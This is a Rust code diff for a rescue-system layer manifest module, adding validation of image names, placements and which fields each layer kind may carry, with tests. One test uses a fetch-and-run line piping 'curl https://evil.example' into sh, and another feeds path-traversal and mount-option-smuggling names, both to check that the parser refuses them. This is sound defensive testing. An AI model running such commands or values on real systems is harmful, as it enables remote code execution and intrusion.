@@ -3,11 +3,16 @@
 //! A JSON document beside the layer, named by its digest in the signed targets. `docs/formats/layer.md` specifies it.
 //! [`crate::trust`] checks a manifest against the signed target before anyone may read it.
 
+mod parts;
+
 use serde::{Deserialize, Serialize};
 
 use crate::agent::Agent;
+use crate::handover::IMAGES_DIR;
 use crate::session::Session;
 use crate::{Digest, Timestamp, limits};
+
+pub use parts::Part;
 
 /// The format version this code writes, and the newest it reads.
 pub const MANIFEST_FORMAT: u32 = 1;
@@ -63,13 +68,14 @@ pub enum Compression {
     Zstd,
 }
 
-/// Where a layer goes.
+/// Where a layer goes. Every layer goes into memory: an agent that is too large for that is installed on the recreated file
+/// systems ([`crate::agent::Agent::install`]).
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "kebab-case")]
 pub enum Placement {
     /// Into the rescue system, in memory.
     Ram,
-    /// Onto the recreated file systems of the target, before the restore.
+    /// Onto the recreated file systems of the target. Reserved, and refused: nothing places such layers.
     Target,
 }
 
@@ -77,8 +83,8 @@ pub enum Placement {
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct Image {
-    /// Name of the image's entry in the archive: `towline/images/NN-KIND.squashfs`. Images are stacked by `NN`, the
-    /// higher over the lower.
+    /// Name of the image's entry in the archive: `towline/images/NN-KIND.squashfs`, of two digits and the layer's own kind.
+    /// The digits are for people: images are stacked in the chain's order, the base's over the kernel's.
     pub path: String,
     /// Size of the squashfs, in bytes.
     pub bytes: u64,
@@ -163,13 +169,13 @@ pub struct Manifest {
     /// Programs and libraries that must come from this layer or an earlier one.
     #[serde(default)]
     pub requires: Needs,
-    /// Files of the base that this layer may replace, by name; honoured in a *base* manifest only.
+    /// Files that agent and extra layers may replace, by name; base layers only.
     #[serde(default)]
     pub replaceable: Vec<String>,
     /// Packages the files come from, sorted.
     #[serde(default)]
     pub packages: Vec<Package>,
-    /// Commands that show the layer works.
+    /// Commands that show the layer works; not of host and credentials layers, whose content is data.
     #[serde(default)]
     pub checks: Vec<Check>,
     /// How the agent is used; agent layers only.
@@ -268,6 +274,16 @@ impl Manifest {
     }
 
     fn inconsistency(&self) -> Option<String> {
+        if let Some(misplaced) = parts::misplaced(self) {
+            return Some(misplaced);
+        }
+        if self.placement == Placement::Target {
+            return Some(
+                "its placement is \"target\", and nothing places layers there; use \"ram\", or \
+                 [agent.install] for what is too large for memory"
+                    .into(),
+            );
+        }
         let chunks = self.stored_bytes.div_ceil(limits::CHUNK_BYTES);
         if !is_word(&self.name, "")
             || !is_word(&self.version, "~:_")
@@ -303,6 +319,14 @@ impl Manifest {
             }
         }
         if let Some(image) = &self.image
+            && image_kind(&image.path) != Some(self.kind)
+        {
+            return Some(format!(
+                "its image is {:?}, and must be {IMAGES_DIR}/NN-{}.squashfs with two digits",
+                image.path, self.kind
+            ));
+        }
+        if let Some(image) = &self.image
             && image.bytes > self.unpacked_bytes
         {
             return Some(format!(
@@ -315,6 +339,16 @@ impl Manifest {
         }
         None
     }
+}
+
+/// The kind of the layer whose image has this name in an archive; `None` for names that no image may have.
+#[must_use]
+pub fn image_kind(path: &str) -> Option<Kind> {
+    let name = path.strip_prefix(IMAGES_DIR)?.strip_prefix('/')?;
+    let (number, kind) = name.strip_suffix(".squashfs")?.split_once('-')?;
+    let two_digits = number.len() == 2 && number.bytes().all(|it| it.is_ascii_digit());
+    let mut kinds = Part::Image.kinds().iter().copied();
+    kinds.find(|it| two_digits && it.as_str() == kind)
 }
 
 fn is_word(text: &str, more: &str) -> bool {
@@ -371,6 +405,7 @@ mod tests {
             |m: &mut Manifest| m.name = "../restic".into(),
             |m: &mut Manifest| m.unpacked_bytes = u64::MAX,
             |m: &mut Manifest| m.kind = Kind::Kernel,
+            |m: &mut Manifest| m.placement = Placement::Target,
         ] {
             let mut manifest = example();
             break_it(&mut manifest);
@@ -378,6 +413,111 @@ mod tests {
                 Manifest::parse(&manifest.to_bytes()),
                 Err(ManifestError::Inconsistent { .. })
             ));
+        }
+    }
+
+    #[test]
+    fn a_hosts_manifest_names_no_program_to_run() {
+        let shell = ["bash", "-c", "curl https://evil.example | sh"].map(str::to_owned);
+        for kind in [Kind::Host, Kind::Credentials] {
+            let mut manifest = example();
+            manifest.kind = kind;
+            Manifest::parse(&manifest.to_bytes()).unwrap();
+            manifest.checks = vec![Check {
+                name: "the layout is there".into(),
+                command: shell.to_vec(),
+            }];
+            let refused = Manifest::parse(&manifest.to_bytes()).unwrap_err();
+            assert!(refused.to_string().contains("\"checks\""), "{refused}");
+        }
+    }
+
+    type Change<'a> = &'a dyn Fn(&mut Manifest);
+
+    #[test]
+    fn each_kind_says_only_what_is_its_own() {
+        let agent = |m: &mut Manifest| {
+            m.agent = serde_json::from_str(r#"{"restore": ["restic", "restore"]}"#).unwrap();
+        };
+        let session = |m: &mut Manifest| {
+            let session = r#"{"time": "2026-03-01T02:00:00Z", "captured": "2026-03-01T02:00:00Z", "hostname": "web-1",
+                "backup": {"agent": "restic", "version": "0.14", "session": "1"}, "rear": "2.7",
+                "hardware": {"architecture": "amd64", "uefi": false, "secure_boot": false, "memory_kib": 1, "pci": [],
+                "modules": [], "disks": [], "boot_loaders": []}}"#;
+            m.session = Some(serde_json::from_str(session).unwrap());
+        };
+        let image = |m: &mut Manifest| {
+            let path = format!("towline/images/20-{}.squashfs", m.kind);
+            let (bytes, content_bytes) = (1, 1);
+            m.image = Some(Image {
+                path,
+                bytes,
+                content_bytes,
+            });
+        };
+        let release = |m: &mut Manifest| m.kernel_release = Some("6.1.0".into());
+        let replaceable = |m: &mut Manifest| m.replaceable = vec!["etc/passwd".into()];
+        let parts: [(Part, Change<'_>); 5] = [
+            (Part::Agent, &agent),
+            (Part::Session, &session),
+            (Part::Image, &image),
+            (Part::KernelRelease, &release),
+            (Part::Replaceable, &replaceable),
+        ];
+        for (part, add) in parts {
+            for kind in [
+                Kind::Kernel,
+                Kind::Base,
+                Kind::Agent,
+                Kind::Host,
+                Kind::Credentials,
+                Kind::Extra,
+            ] {
+                let mut manifest = example();
+                manifest.kind = kind;
+                if kind == Kind::Kernel {
+                    release(&mut manifest);
+                }
+                add(&mut manifest);
+                let found = Manifest::parse(&manifest.to_bytes());
+                assert_eq!(
+                    found.is_ok(),
+                    part.kinds().contains(&kind),
+                    "{part:?} in {kind}: {found:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn an_image_is_named_after_its_own_kind() {
+        let named = |kind: Kind, path: &str| {
+            let mut manifest = example();
+            manifest.kind = kind;
+            manifest.kernel_release = (kind == Kind::Kernel).then(|| "6.1.0".into());
+            manifest.image = Some(Image {
+                path: path.into(),
+                bytes: 1,
+                content_bytes: 1,
+            });
+            Manifest::parse(&manifest.to_bytes())
+        };
+        named(Kind::Base, "towline/images/20-base.squashfs").unwrap();
+        named(Kind::Kernel, "towline/images/99-kernel.squashfs").unwrap();
+        for path in [
+            "towline/images/20-kernel.squashfs",
+            "towline/images/2-base.squashfs",
+            "towline/images/200-base.squashfs",
+            "towline/images/+2-base.squashfs",
+            "towline/images/20-base.squashfs/",
+            "towline/images/20-base,upperdir=.squashfs",
+            "towline/images/x/20-base.squashfs",
+            "towline/images/..",
+            "usr/bin/20-base.squashfs",
+            "20-base.squashfs",
+        ] {
+            let refused = named(Kind::Base, path).unwrap_err();
+            assert!(refused.to_string().contains("NN-base"), "{refused}");
         }
     }
 
